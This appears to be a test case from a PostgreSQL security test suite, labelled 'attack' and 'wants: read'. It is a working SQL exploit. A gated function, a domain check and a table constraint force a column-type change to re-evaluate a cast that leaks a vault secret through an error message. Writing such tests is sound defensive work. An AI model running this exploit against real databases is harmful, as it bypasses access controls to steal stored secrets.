-- Changes a column's type, so that a check with a constant of a checked type is parsed anew, and fails with a name from the vault.
-- wants: read
-- attack:
CREATE FUNCTION one_of(sql text) RETURNS text LANGUAGE plpgsql AS 'DECLARE one text; BEGIN IF current_setting(''application_name'') = ''now'' THEN EXECUTE sql INTO one; RETURN one; END IF; RETURN ''pg_class''; END';
CREATE FUNCTION looks_for(text) RETURNS boolean LANGUAGE sql AS 'SELECT one_of(''SELECT quote_ident(secret) FROM vlt'' || ''_account WHERE id = 1'')::regclass IS NOT NULL';
CREATE DOMAIN looked_for AS text CHECK (looks_for(VALUE));
CREATE TABLE checked_anew (id int, CHECK (id > 0 OR '{1}'::looked_for[] IS NULL));
SET application_name = now;
ALTER TABLE checked_anew ALTER COLUMN id TYPE bigint, ALTER COLUMN id SET STATISTICS 100, ALTER COLUMN id SET STATISTICS 100, ALTER COLUMN id SET STATISTICS 100, ALTER COLUMN id SET STATISTICS 100;
